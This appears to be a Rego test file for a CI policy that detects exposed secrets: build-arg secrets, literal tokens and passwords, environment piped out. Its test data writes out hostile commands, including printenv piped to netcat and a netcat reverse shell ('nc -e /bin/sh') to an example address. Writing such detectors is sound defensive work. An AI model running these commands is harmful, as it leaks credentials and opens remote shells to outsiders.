package std.ci.secret_exposed_test

import data.std.ci.secret_exposed

table := {"hints": ["gh", "npm_", "PRIVATE KEY"], "patterns": {"npm-token": `\bnpm_[A-Za-z0-9]{36}`}, "samples": []}

checks(job, patterns) := {finding.check | some finding in found} if {
	params := {"std/ci/secret-exposed": {"token_patterns": patterns}}
	found := secret_exposed.deny with input as {"documents": {"ci": [{"uri": "w.yml", "jobs": [job]}]}} with data.params as params with data.token_patterns as table
}

step(fields) := {"id": "a", "steps": [fields]}

test_secrets_as_build_arguments_are_denied if {
	checks(step({"with": {"build-args": "NPM_TOKEN=${{ secrets.NPM }}"}}), []) == {"build-arg"}
	checks(step({"run": {"commands": [{"name": "docker", "argv": ["docker", "build", "--build-arg", "NPM_TOKEN=x"]}]}}), []) == {"build-arg"}
}

test_other_build_arguments_are_fine if checks(step({"with": {"build-args": "VERSION=${{ github.sha }}"}}), []) == set()

test_literals_are_denied if {
	token := concat("", ["npm", "_", "abcdefghijklmnopqrstuvwxyz0123456789"])
	checks(step({"run": {"text": sprintf("npm config set x=%s", [token]), "commands": []}}), []) == {"literal"}
	checks({"id": "a", "env": {"DB_PASSWORD": "hunter2"}, "steps": []}, []) == {"literal"}
}

test_the_secret_store_is_fine if checks({"id": "a", "env": {"DB_PASSWORD": "${{ secrets.DB }}"}, "steps": []}, []) == set()

test_own_patterns_count if checks(step({"run": {"text": "x acme-12345678", "commands": []}}), ["acme-[0-9]{8}"]) == {"literal"}

run(commands) := step({"run": {"text": "", "commands": commands}})

test_literals_of_the_shell_are_denied if {
	checks(run([{"name": "export", "argv": ["export", "DB_PASSWORD=hunter2"], "args": ["DB_PASSWORD=hunter2"]}]), []) == {"literal"}
	checks(run([{"name": "", "argv": [], "args": [], "assign": [{"name": "DB_PASSWORD", "value": "hunter2"}]}]), []) == {"literal"}
	checks(run([{"name": "", "argv": [], "args": [], "assign": [{"name": "DB_PASSWORD", "value": "$X"}]}]), []) == set()
}

test_passwords_on_command_lines_are_denied if {
	login := {"name": "docker", "argv": ["docker", "login", "-p", "hunter2"], "args": ["login"], "opts": {"p": "hunter2"}}
	checks(run([login]), []) == {"literal"}
	checks(run([object.union(login, {"opts": {"p": "$CI_REGISTRY_PASSWORD"}})]), []) == set()
}

test_an_environment_in_a_pipe_is_sent if {
	source := {"name": "printenv", "argv": ["printenv"], "args": [], "pipe": 0, "pos": 0}
	sender := {"name": "nc", "argv": ["nc", "host", "80"], "args": [], "pipe": 0, "pos": 1}
	checks(run([source, sender]), []) == {"sent"}
}

netcat(words) := run([{"name": "nc", "argv": array.concat(["nc"], words), "args": words}])

test_netcat_to_a_bare_address_is_denied if {
	checks(netcat(["-e", "/bin/sh", "203.0.113.7", "4444"]), []) == {"netcat"}
	checks(netcat(["-z", "127.0.0.1", "8080"]), []) == set()
	checks(netcat(["-z", "database", "5432"]), []) == set()
}
